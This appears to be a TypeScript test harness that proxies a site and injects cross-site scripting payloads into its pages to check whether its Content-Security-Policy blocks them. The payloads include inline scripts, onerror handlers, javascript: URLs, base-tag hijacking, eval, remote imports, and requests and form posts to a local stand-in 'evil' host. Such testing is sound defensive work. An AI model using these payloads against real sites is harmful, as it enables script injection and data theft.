import { Hono } from 'hono';
import { proxy } from 'hono/proxy';
import { serveApp } from './listen.ts';

declare global {
  interface Window {
    /** Called by what is injected, where it executes. */
    attacked(name: string): void;
    /** What each attack did, once all are over. */
    attacks?: Record<string, string>;
    /** Directives of the policy that were violated. */
    violations: string[];
  }
}

/** What somebody may get into the HTML of a page. `{evil}` is another host. */
const injected: Readonly<Record<string, string>> = {
  'inline script': `<script>attacked('inline script')</script>`,
  'event handler': `<img src="/no-such-image" alt="" onerror="attacked('event handler')">`,
  'javascript: URL': `<a id="javascript-url" href="javascript:attacked('javascript: URL')">x</a>`,
  'script of another host': `<script src="{evil}/script-of-another-host"></script>`,
  'base element': `<base href="{evil}/">`,
  'form to another host': `<form id="evil-form" action="{evil}/form-to-another-host"></form>`,
  frame: `<iframe title="x" src="{evil}/frame"></iframe>`,
  'frame with its own text': `<iframe title="x" srcdoc="<script>parent.attacked('frame with its own text')</script>"></iframe>`,
  object: `<object data="{evil}/object"></object><embed src="{evil}/object">`,
  'image of another host': `<img src="{evil}/image-of-another-host" alt="">`,
};

/** Runs in the page, as a script of its own host: what a fault of the site's own scripts may do with a stranger's text. */
async function attack(evil: string): Promise<void> {
  const results: Record<string, string> = {};
  window.violations = [];
  window.attacked = (name) => {
    results[name] = 'executed';
  };
  document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
  await new Promise((done) => addEventListener('load', done));
  while (!document.querySelector('header[data-compact]')) {
    await new Promise(requestAnimationFrame);
  }
  const text = (name: string) => `attacked('${name}')`;
  const tryTo = async (name: string, run: () => unknown) => {
    try {
      await run();
    } catch (error) {
      results[name] ??= `blocked: ${error instanceof Error ? error.name : error}`;
    }
  };
  document.getElementById('javascript-url')?.click();
  // biome-ignore lint/security/noGlobalEval: it is what is tried
  await tryTo('eval', () => eval(text('eval')));
  await tryTo('new Function', () => new Function(text('new Function'))());
  await tryTo('import from another host', () => import(`${evil}/import-from-another-host`));
  await tryTo('worker from a blob', () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(0)'], { type: 'text/javascript' })));
    return new Promise<void>((done, fail) => {
      worker.onmessage = () => {
        window.attacked('worker from a blob');
        done();
      };
      worker.onerror = () => fail('error event');
    });
  });
  await tryTo('request to another host', () => fetch(`${evil}/request-to-another-host`, { mode: 'no-cors' }));
  await tryTo('innerHTML', () => {
    document.body.append(document.createElement('div'));
    const { lastElementChild: div } = document.body;
    if (div) div.innerHTML = `<img src="/no-such-image" onerror="${text('innerHTML')}">`;
  });
  const types: { createPolicy(name: string, rules: object): unknown } | undefined = Reflect.get(window, 'trustedTypes');
  if (types) await tryTo('policy of Trusted Types', () => types.createPolicy('evil', {}));
  results['Trusted Types'] = types ? 'supported' : 'not supported';
  if (!document.baseURI.startsWith(location.origin)) results['base element'] = 'executed';
  window.attacks = results;
  // Last, because it leaves the page where it is allowed.
  document.querySelector<HTMLFormElement>('#evil-form')?.submit();
}

export type AttackedSite = {
  origin: string;
  /** Paths that the other host was asked for. */
  requests: readonly string[];
  stop(): void;
};

/**
 * Serves a site with what a stranger injects into each page, and the other host.
 *
 * @param policy where pages keep their policy: as the only place, so that each is shown to hold alone; nowhere shows that
 *   the attacks do harm where nothing blocks them
 */
export async function serveAttacked(origin: string, policy: 'header' | 'meta' | 'nowhere'): Promise<AttackedSite> {
  const requests: string[] = [];
  const evilHost = await serveApp(
    new Hono().all('*', (context) => {
      requests.push(context.req.path);
      return context.body(`attacked('${context.req.path}')`, 200, {
        'Content-Type': 'text/javascript',
        'Access-Control-Allow-Origin': '*',
      });
    }),
  );
  const code = `(${attack})('${evilHost.origin}')`;
  const site = await serveApp(
    new Hono()
      .get('/attack.js', (context) => context.body(code, 200, { 'Content-Type': 'text/javascript' }))
      .get('*', async (context) => {
        const { pathname, search } = new URL(context.req.url);
        const response = await proxy(origin + pathname + search, { headers: context.req.header() });
        if (!response.headers.get('Content-Type')?.startsWith('text/html')) return response;
        const markup = Object.values(injected).join('\n').replaceAll('{evil}', evilHost.origin);
        const html = (await response.text())
          .replace('<title>', '<script src="/attack.js"></script><title>')
          .replace('</body>', `${markup}</body>`)
          .replace(policy === 'meta' ? '' : /<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
        const attacked = new Response(html, response);
        if (policy !== 'header') attacked.headers.delete('Content-Security-Policy');
        return attacked;
      }),
  );
  return {
    origin: site.origin,
    requests,
    stop() {
      site.stop();
      evilHost.stop();
    },
  };
}
